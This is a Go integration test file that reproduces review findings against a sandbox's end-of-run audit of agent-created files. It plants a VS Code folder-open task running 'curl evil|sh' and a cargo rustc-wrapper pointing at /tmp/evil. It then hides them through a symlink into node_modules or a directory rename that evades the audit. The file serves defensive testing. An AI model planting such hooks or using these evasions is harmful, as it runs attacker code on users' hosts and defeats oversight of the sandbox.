package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Repro tests of an outside review of the end-of-run audit of created
// agent files (06804bd..fa7e719: pkg/policy/createdaudit.go, GitAudit.Run,
// protectGlob links:true). Each FAILS on the code reviewed until fixed.

// reviewBackends runs fn for the native backend and, where it can start,
// the landlock one (its flag, or none for native).
func reviewBackends(t *testing.T, u user, fn func(t *testing.T, flags []string)) {
	t.Run("native", func(t *testing.T) { fn(t, nil) })
	t.Run("landlock", func(t *testing.T) {
		requireLandlock(t, u)
		fn(t, []string{"--backend", "landlock"})
	})
}

// agentFiles are files the nested protect patterns of the base profile
// stand for, as a sandbox would plant them below dir (relative to the
// workspace): an editor's task run on folder open, cargo's build wrapper.
var reviewAgentFiles = []string{".vscode/tasks.json", ".cargo/config.toml"}

func plantScript(dir string) string {
	return `mkdir -p ` + dir + `/.vscode ` + dir + `/.cargo && ` +
		`echo '{"version":"2.0.0","tasks":[{"label":"x","command":"curl evil|sh","runOptions":{"runOn":"folderOpen"}}]}' > ` + dir + `/.vscode/tasks.json && ` +
		`printf '[build]\nrustc-wrapper = "/tmp/evil"\n' > ` + dir + `/.cargo/config.toml`
}

// leftOnHost fails t for every planted agent file still readable on the
// host at ws/proj/NAME (following symlinks on the way, as an editor or
// cargo started in ws/proj does), when the run did not at least name it.
func leftOnHost(t *testing.T, ws, proj string, r result) {
	t.Helper()
	for _, f := range reviewAgentFiles {
		p := filepath.Join(ws, proj, f)
		if _, err := os.Stat(p); err == nil && !strings.Contains(r.stderr, filepath.Join(ws, proj)) {
			t.Errorf("%s, made by the sandbox, is left on the host neither quarantined nor reported; stderr %q", p, r.stderr)
		}
	}
}

// FINDING 1a (HIGH). The end walk does not enter the directories the
// start's walk skips (node_modules, target, .venv ...) and does not follow
// symlinks. One run plants .vscode/tasks.json and .cargo/config.toml in
// pkgs/node_modules/p and links pkgs/proj -> node_modules/p: the audit
// sees neither, and an editor opened on pkgs/proj, or cargo run there,
// reads them on the host.
func TestReviewAuditSymlinkToSkippedDir(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			u.mkdirs(t, filepath.Join(ws, "pkgs"))
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, plantScript("pkgs/node_modules/p")+` && ln -s node_modules/p pkgs/proj && echo planted`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "planted") {
				t.Fatalf("the sandbox could not plant: %q %q", r.stdout, r.stderr)
			}
			leftOnHost(t, ws, "pkgs/proj", r)
		})
	})
}

// FINDING 1b (HIGH). A match is judged by its own inode and what it
// holds, not by the directories above it. A first run stashes
// .vscode/tasks.json and .cargo/config.toml in pkgs/node_modules (not
// walked); a second run only renames pkgs/node_modules to pkgs/proj (one
// rename in one directory: Landlock allows it without the refer right).
// The rename stamps pkgs/proj, not the .vscode and .cargo below it, whose
// ctime is the first run's: neither is quarantined, and no warning names
// them.
func TestReviewAuditMovedAncestor(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		reviewBackends(t, u, func(t *testing.T, flags []string) {
			ws := filepath.Join(u.visibleDir(t), "proj")
			u.mkdirs(t, filepath.Join(ws, "pkgs"))
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, flags, plantScript("pkgs/node_modules")+` && echo planted`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "planted") {
				t.Fatalf("the sandbox could not plant: %q %q", r.stdout, r.stderr)
			}
			// The second run starts in a later tick of the clock.
			time.Sleep(50 * time.Millisecond)
			r = u.sh(t, &runOpts{dir: ws}, flags, `mv pkgs/node_modules pkgs/proj && echo moved`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "moved") {
				t.Fatalf("the sandbox could not move: %q %q", r.stdout, r.stderr)
			}
			leftOnHost(t, ws, "pkgs/proj", r)
		})
	})
}
